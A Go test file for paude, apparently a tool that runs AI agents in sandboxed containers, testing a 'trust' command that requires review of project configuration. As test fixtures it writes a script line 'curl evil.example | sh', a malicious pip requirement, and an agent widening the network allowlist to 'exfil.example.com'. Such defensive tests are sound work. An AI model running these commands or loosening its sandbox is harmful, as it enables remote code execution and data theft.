package plugin

import (
	"bytes"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"k8s.io/cli-runtime/pkg/genericiooptions"

	"github.com/paude-dev/paude/pkg/backend"
	"github.com/paude-dev/paude/pkg/config"
	"github.com/paude-dev/paude/pkg/trust"
)

// trustEnv copies a testdata/trust project into a temporary directory and
// points the trust store (through XDG_CONFIG_HOME) at another one. The
// project's ${localEnv:...} variable holds a secret that must never be
// shown or stored.
func trustEnv(t *testing.T, project string) (ws, configHome string) {
	t.Helper()
	ws = filepath.Join(t.TempDir(), "project")
	if err := os.CopyFS(ws, os.DirFS(filepath.Join("testdata", "trust", project))); err != nil {
		t.Fatal(err)
	}
	configHome = t.TempDir()
	t.Setenv("XDG_CONFIG_HOME", configHome)
	t.Setenv("PAUDE_TRUST_TEST_TOKEN", "host-secret-value")
	return ws, configHome
}

// runWithInput runs the command tree with input on stdin.
func runWithInput(t *testing.T, flavor Flavor, dir, input string, args ...string) runResult {
	t.Helper()
	t.Chdir(dir)
	var out, errOut bytes.Buffer
	root := NewRootOptions(genericiooptions.IOStreams{In: strings.NewReader(input), Out: &out, ErrOut: &errOut}, flavor)
	cmd := NewRootCmdWithOptions(root)
	cmd.SetArgs(args)
	err := cmd.Execute()
	res := runResult{code: ExitCode(err, &errOut)}
	res.out, res.errOut = out.String(), errOut.String()
	return res
}

func TestTrustCommandLifecycle(t *testing.T) {
	ws, configHome := trustEnv(t, "paude")
	type step struct {
		name        string
		before      func()
		input       string
		args        []string
		wantCode    int
		wantOut     []string
		wantErrOut  []string
		notInErrOut []string
	}
	steps := []step{
		{
			name: "first look asks and trusts on yes", input: "y\n", args: []string{"trust"},
			wantOut: []string{
				"paude has not used the configuration of " + ws,
				"Configuration file: paude.json",
				"  registry.npmjs.org\n",
				"  TOKEN=${localEnv:PAUDE_TRUST_TEST_TOKEN}\n",
				"Host variables passed in (${localEnv:...}): PAUDE_TRUST_TEST_TOKEN",
				"Image: node:22-slim, then paude's layer on top",
				"Packages installed: make",
				"pip install from: requirements.txt",
				"    | npm ci\n",
				"Namespace: agents",
			},
			wantErrOut: []string{"Trust this configuration? [y/N] ", "Trusted the configuration of " + ws},
		},
		{
			name: "trusted shows when, asks nothing", args: []string{"trust"},
			wantOut: []string{"You trusted the configuration of " + ws}, notInErrOut: []string{"[y/N]"},
		},
		{
			name: "a change shows a diff; no records nothing",
			before: func() {
				writeFile(t, ws, "paude.json", `{"base": "node:22-slim", "pip_install": true, "network": {"allowedDomains": ["registry.npmjs.org", "evil.example"]}}`)
			},
			input: "n\n", args: []string{"trust", ws}, wantCode: 1,
			wantOut:    []string{"changed since you trusted it", "  changed  paude.json\n", "+  evil.example\n", "-    | npm ci\n"},
			wantErrOut: []string{"was not trusted: nothing was recorded; answer y to trust it, or pass --yes"},
		},
		{
			name: "still changed", args: []string{"trust"}, input: "", wantCode: 1,
			wantOut: []string{"+  evil.example\n"},
		},
		{
			name: "--yes trusts without asking", args: []string{"trust", "--yes"},
			wantErrOut: []string{"Trusted the configuration of"}, notInErrOut: []string{"[y/N]"},
		},
		{
			name: "a pip input changes", before: func() { writeFile(t, ws, "requirements.txt", "evil==1\n") },
			args: []string{"trust", "-y"}, wantOut: []string{"  changed  requirements.txt\n"},
		},
		{name: "--revoke forgets", args: []string{"trust", "--revoke"}, wantErrOut: []string{"Forgot the trust in the configuration of " + ws}},
		{name: "--revoke again", args: []string{"trust", "--revoke", ws}, wantErrOut: []string{"was not trusted"}},
		{name: "after revoke it is new again", args: []string{"trust"}, wantCode: 1, wantOut: []string{"paude has not used the configuration"}},
	}
	for _, s := range steps {
		if s.before != nil {
			s.before()
		}
		res := runWithInput(t, Standalone, ws, s.input, s.args...)
		if res.code != s.wantCode {
			t.Fatalf("%s: exit %d, want %d\nstdout:\n%s\nstderr:\n%s", s.name, res.code, s.wantCode, res.out, res.errOut)
		}
		for _, want := range s.wantOut {
			if !strings.Contains(res.out, want) {
				t.Errorf("%s: stdout lacks %q:\n%s", s.name, want, res.out)
			}
		}
		for _, want := range s.wantErrOut {
			if !strings.Contains(res.errOut, want) {
				t.Errorf("%s: stderr lacks %q:\n%s", s.name, want, res.errOut)
			}
		}
		for _, unwanted := range s.notInErrOut {
			if strings.Contains(res.errOut, unwanted) {
				t.Errorf("%s: stderr has %q:\n%s", s.name, unwanted, res.errOut)
			}
		}
		if strings.Contains(res.out+res.errOut, "host-secret-value") {
			t.Fatalf("%s: a host variable's value was shown", s.name)
		}
	}
	assertNoSecretStored(t, configHome)
}

// assertNoSecretStored checks that no trust record holds the host value.
func assertNoSecretStored(t *testing.T, configHome string) {
	t.Helper()
	err := filepath.WalkDir(configHome, func(p string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		data, err := os.ReadFile(p)
		if err == nil && bytes.Contains(data, []byte("host-secret-value")) {
			t.Errorf("%s holds a host variable's value", p)
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
}

func TestTrustCommandCases(t *testing.T) {
	for _, tc := range []struct {
		name     string
		project  string
		flavor   Flavor
		args     []string
		wantCode int
		want     string // in stdout+stderr
	}{
		{"no configuration file", "", Standalone, []string{"trust"}, 0, "has no configuration file: paude uses its defaults, and there is nothing to trust"},
		{"configuration with errors", "broken", Standalone, []string{"trust"}, 1, "paude.json:1:15"},
		{"dockerfile is shown", "devcontainer", Standalone, []string{"trust", "-y"}, 0, "    | RUN sh /tmp/install.sh\n"},
		{"build args keep their references", "devcontainer", Standalone, []string{"trust", "-y"}, 0, "    KEY=${localEnv:PAUDE_TRUST_TEST_TOKEN}\n"},
		{"too many arguments", "paude", Standalone, []string{"trust", "a", "b"}, 2, "unexpected argument \"b\"\nSee 'paude trust -h'"},
		{"--yes with --revoke", "paude", KubectlPlugin, []string{"trust", "--yes", "--revoke"}, 2, "give --yes or --revoke, not both\nSee 'kubectl paude trust -h'"},
		{"missing directory", "paude", Standalone, []string{"trust", "no/such/dir"}, 1, "does not exist: give the directory of a project"},
		{"a file, not a directory", "paude", Standalone, []string{"trust", "paude.json"}, 1, "is not a directory"},
		{"help names the plugin", "paude", KubectlPlugin, []string{"trust", "-h"}, 0, "kubectl paude trust --yes ~/src/project"},
		{"devspace sync is shown as risky", "devspace", KubectlPlugin, []string{"trust", "-y"}, 0,
			"Workspace sync (cluster sessions): devspace\n  RISKY: DevSpace follows symlinks out of the workspace"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var ws string
			if tc.project == "" {
				ws = t.TempDir()
				t.Setenv("XDG_CONFIG_HOME", t.TempDir())
			} else {
				ws, _ = trustEnv(t, tc.project)
			}
			res := runWithInput(t, tc.flavor, ws, "", tc.args...)
			if res.code != tc.wantCode || !strings.Contains(res.out+res.errOut, tc.want) {
				t.Fatalf("exit %d (want %d), output lacks %q:\nstdout:\n%s\nstderr:\n%s", res.code, tc.wantCode, tc.want, res.out, res.errOut)
			}
		})
	}
}

// The start's gate: without a terminal (tests have none) an untrusted
// configuration is refused naming the trust command as typed; once
// trusted it passes; a changed build input refuses again.
func TestEnsureTrustedForAStart(t *testing.T) {
	ws, _ := trustEnv(t, "devcontainer")
	t.Chdir(ws)
	root := NewRootOptions(testStreams(), KubectlPlugin)
	load := func() error {
		t.Helper()
		o := NewStartOptions(root)
		cmd := NewRootCmdWithOptions(root)
		if err := o.Complete(cmd, nil); err != nil {
			t.Fatal(err)
		}
		return ensureTrusted(root, o.cfg)
	}
	var untrusted *trust.UntrustedError
	err := load()
	if !errors.As(err, &untrusted) || !strings.Contains(err.Error(), "'kubectl paude trust "+ws+"'") {
		t.Fatalf("untrusted start: %v", err)
	}
	if res := runWithInput(t, KubectlPlugin, ws, "", "trust", "--yes"); res.code != 0 {
		t.Fatalf("trust: %d %s", res.code, res.errOut)
	}
	if err := load(); err != nil {
		t.Fatalf("trusted start: %v", err)
	}
	writeFile(t, ws, "tools/install.sh", "#!/bin/sh\ncurl evil.example | sh\n")
	if err := load(); !errors.As(err, &untrusted) || !strings.Contains(err.Error(), "changed since you trusted it") {
		t.Fatalf("start after a build input changed: %v", err)
	}
	if err := ensureTrusted(root, mustDefaults(t)); err != nil {
		t.Fatalf("a workspace without configuration: %v", err)
	}
}

func mustDefaults(t *testing.T) *config.Config {
	t.Helper()
	return config.Defaults(t.TempDir())
}

// TestStartNeedsTrust runs the whole start: an untrusted configuration
// reaches no StartSession (the backend only listed sessions, to find one
// to reattach to) and the error names the trust command; once trusted,
// the same start goes through.
func TestStartNeedsTrust(t *testing.T) {
	ws, _ := trustEnv(t, "paude")
	f := &fakeBackend{typ: backend.Podman}
	res := runCmd(t, Standalone, f, ws)
	if res.code != 1 || !strings.Contains(res.errOut, "review and trust it with 'paude trust "+ws+"'") {
		t.Fatalf("untrusted start: exit %d\n%s", res.code, res.errOut)
	}
	if got := calls(f); got != "list" {
		t.Fatalf("an untrusted start reached the backend: %q", got)
	}
	if res := runWithInput(t, Standalone, ws, "", "trust", "--yes"); res.code != 0 {
		t.Fatalf("trust: %d %s", res.code, res.errOut)
	}
	f = &fakeBackend{typ: backend.Podman}
	if res := runCmd(t, Standalone, f, ws); res.code != 0 || !strings.Contains(calls(f), "start workspace="+ws) {
		t.Fatalf("trusted start: exit %d calls %q\n%s", res.code, calls(f), res.errOut)
	}
}

// TestUntrustedConfigIsIgnored: commands other than start read the
// configuration without asking; an untrusted one is ignored whole (its
// namespace, registry, allowlist and env: attach may resume a session
// with it) with one line, a trusted one is used.
func TestUntrustedConfigIsIgnored(t *testing.T) {
	ws, _ := trustEnv(t, "paude")
	t.Chdir(ws)
	var errOut bytes.Buffer
	root := NewRootOptions(genericiooptions.IOStreams{In: &bytes.Buffer{}, Out: &bytes.Buffer{}, ErrOut: &errOut}, KubectlPlugin)
	if cfg := root.projectConfig(); cfg != nil {
		t.Fatalf("untrusted configuration used: %+v", cfg)
	}
	if cfg := root.projectConfig(); cfg != nil || strings.Count(errOut.String(), "note:") != 1 {
		t.Fatalf("second call: %+v, notes %q", cfg, errOut.String())
	}
	if !strings.Contains(errOut.String(), "note: ignoring "+filepath.Join(ws, "paude.json")+
		", which is not trusted (it changed, or was never reviewed): paude's defaults apply; review it with 'kubectl paude trust'") {
		t.Errorf("no note: %q", errOut.String())
	}
	if res := runWithInput(t, KubectlPlugin, ws, "", "trust", "--yes"); res.code != 0 {
		t.Fatalf("trust: %d %s", res.code, res.errOut)
	}
	root = NewRootOptions(testStreams(), KubectlPlugin)
	cfg := root.projectConfig()
	if cfg == nil || cfg.Backend.Namespace != "agents" || len(cfg.Env) == 0 {
		t.Fatalf("trusted configuration dropped: %+v", cfg)
	}
	// The agent widens the allowlist through sync: the change is not
	// trusted, so the defaults apply again.
	data, err := os.ReadFile(filepath.Join(ws, "paude.json"))
	if err != nil {
		t.Fatal(err)
	}
	widened := strings.Replace(string(data), `"registry.npmjs.org"`, `"registry.npmjs.org", "exfil.example.com"`, 1)
	if err := os.WriteFile(filepath.Join(ws, "paude.json"), []byte(widened), 0o644); err != nil {
		t.Fatal(err)
	}
	errOut.Reset()
	root = NewRootOptions(genericiooptions.IOStreams{In: &bytes.Buffer{}, Out: &bytes.Buffer{}, ErrOut: &errOut}, KubectlPlugin)
	if cfg := root.projectConfig(); cfg != nil || !strings.Contains(errOut.String(), "which is not trusted") {
		t.Fatalf("a changed configuration used without review: %+v (%q)", cfg, errOut.String())
	}
}

// TestStartRefusesHome: the home directory and its ancestors are no
// workspace, before any backend is asked anything.
func TestStartRefusesHome(t *testing.T) {
	home := t.TempDir()
	t.Setenv("HOME", home)
	for _, dir := range []string{home, filepath.Dir(home)} {
		f := &fakeBackend{typ: backend.Podman}
		res := runCmd(t, Standalone, f, dir)
		if res.code != 1 || !strings.Contains(res.errOut, "refusing to start in "+dir) || res.built {
			t.Fatalf("start in %s: exit %d built %v\n%s", dir, res.code, res.built, res.errOut)
		}
	}
}
